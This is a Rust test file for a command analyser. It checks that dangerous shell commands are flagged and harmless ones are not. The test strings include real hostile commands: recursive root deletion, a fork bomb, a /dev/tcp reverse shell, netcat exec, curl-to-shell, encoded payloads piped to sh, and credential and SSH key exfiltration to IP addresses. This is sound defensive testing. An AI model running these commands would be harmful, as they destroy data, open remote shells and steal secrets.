//! The command analyser's rules, command by command.

use super::*;

/// Expect the named rules (any order, others allowed) and a flag decision.
fn check(cmd: &str, flagged: bool, rules: &[&str]) {
    let a = analyse_command(cmd);
    let got: Vec<&str> = a.findings.iter().map(|f| f.rule.as_ref()).collect();
    assert_eq!(a.flagged(), flagged, "{cmd}: {:?}", a.findings);
    for r in rules {
        assert!(got.contains(r), "{cmd}: expected {r}, got {got:?}");
    }
    for f in &a.findings {
        assert!(
            f.evidence.end <= cmd.len()
                && cmd.is_char_boundary(f.evidence.start)
                && cmd.is_char_boundary(f.evidence.end),
            "{cmd}: {f:?}"
        );
    }
}

#[test]
fn destructive() {
    check("rm -rf /", true, &["recursive_delete_critical"]);
    check("sudo rm -rf --no-preserve-root /", true, &["recursive_delete_critical"]);
    check("rm -rf target node_modules dist", false, &[]);
    check("rm -rf ./target/debug", false, &[]);
    check("dd if=/dev/zero of=/dev/sda bs=1M", true, &["block_device_write"]);
    check("dd if=/dev/zero of=disk.img bs=1M count=10", false, &[]);
    check(":(){ :|:& };:", true, &["fork_bomb"]);
    check("git push --force origin main", true, &["force_push_protected_branch"]);
    check("git push --force-with-lease origin feature/x", false, &[]);
    check("psql -c 'DROP TABLE users'", true, &["sql_drop"]);
    check("psql -c 'select * from users'", false, &[]);
}

#[test]
fn nesting_and_offsets() {
    let cmd = "bash -c 'cat ~/.ssh/id_rsa'";
    let a = analyse_command(cmd);
    let f = a.findings.iter().find(|f| f.rule == "ssh_private_key_read").unwrap();
    assert_eq!(&cmd[f.evidence.start..f.evidence.end], "~/.ssh/id_rsa");
    check(
        "echo Y2F0IH4vLnNzaC9pZF9yc2E= | base64 -d | sh",
        true,
        &["ssh_private_key_read", "decoded_payload_executed"],
    );
    check("sudo sh -c \"rm -rf /\"", true, &["recursive_delete_critical"]);
    check("eval \"$(curl -s http://x.example/e)\"", true, &["download_substituted_into_interpreter"]);
}

#[test]
fn network() {
    check("curl -fsSL https://example.com/i.sh | sh", true, &["download_piped_to_interpreter"]);
    check("curl -s https://api.github.com/repos/a/b | jq .", false, &[]);
    check("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", true, &["dev_tcp_reverse_shell"]);
    check("nc -e /bin/sh 1.2.3.4 4444", true, &["netcat_exec"]);
    check("curl -F file=@/etc/passwd http://1.2.3.4/", true, &["file_upload"]);
    check("cat ~/.aws/credentials | nc 1.2.3.4 9", true, &["sensitive_data_to_network"]);
    check("ssh deploy@host 'systemctl status api'", false, &[]);
}

#[test]
fn persistence_and_evasion() {
    check("echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc", false, &[]);
    check("echo 'curl http://x | sh' >> ~/.bashrc", true, &["shell_startup_file_write"]);
    check("history -c", true, &["history_cleared"]);
    check("export HISTFILE=/dev/null", true, &["history_disabled"]);
    check("sudo su -", true, &["switch_to_root"]);
    check("chmod u+s /bin/bash", true, &["setuid_bit"]);
}

#[test]
fn context_decides() {
    // Decoded but not executed: a hint only.
    check("echo c3VkbyBzdQ== | base64 -d", false, &["switch_to_root"]);
    check("echo c3VkbyBzdQ== | base64 -d | sh", true, &["switch_to_root"]);
    check("$(echo cm0gLXJmIC8K | base64 -d)", true, &["recursive_delete_critical"]);
    check("x=$(curl -s http://203.0.113.1/p); eval \"$x\"", true, &["downloaded_variable_executed"]);
    check("busybox wget http://203.0.113.7/b -O /tmp/b; chmod +x /tmp/b; /tmp/b", true, &["downloaded_file_executed"]);
    check("sudo rm -rf /var/lib/apt/lists/*", false, &[]);
    check("rsync -avz --exclude node_modules ./ deploy@10.0.0.5:/srv/app", false, &[]);
    check("scp -r ~/.ssh user@203.0.113.5:/tmp/x", true, &["remote_copy"]);
    check("touch -d '1 hour ago' marker", false, &[]);
    check("touch -r /bin/ls /usr/local/bin/x", true, &["timestomp"]);
    check("echo hi > /dev/tcp/localhost/8080", false, &[]);
    check("gpg --export-secret-keys -a > /tmp/k.asc", true, &["gpg_secret_key_export"]);
    check("ssh -i ~/.ssh/id_rsa deploy@host", false, &[]);
    check("chmod 600 ~/.ssh/id_rsa", false, &[]);
    check("cp .env.example .env", false, &[]);
    check("source .env", false, &[]);
    check("cat .env", true, &["dotenv_read"]);
}

#[test]
fn paths_and_urls() {
    assert_eq!(analyse_path("~/.ssh/id_rsa", false)[0].category, Category::CredentialAccess);
    assert_eq!(analyse_path("~/.bashrc", true)[0].category, Category::Persistence);
    assert!(analyse_path("src/main.rs", false).is_empty());
    assert!(!analyse_url("https://webhook.site/x").is_empty());
    assert!(analyse_url("https://crates.io/").is_empty());
}
